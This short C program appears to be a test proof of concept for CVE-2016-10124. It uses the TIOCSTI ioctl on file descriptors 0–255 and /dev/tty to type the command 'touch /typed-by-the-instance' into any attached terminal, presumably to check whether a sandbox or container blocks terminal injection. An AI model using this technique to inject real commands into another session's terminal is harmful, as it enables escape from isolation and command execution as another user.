/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* CVE-2016-10124: type a command into whatever terminal is at 0, 1, 2 or is the controlling one. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void type(int fd)
{
	for (const char *s = "touch /typed-by-the-instance\n"; *s && fd >= 0; s++)
		ioctl(fd, TIOCSTI, s);
}

int main(void)
{
	for (int fd = 0; fd < 256; fd++)
		type(fd);
	type(open("/dev/tty", O_RDWR));
	puts("typed");
	return 0;
}
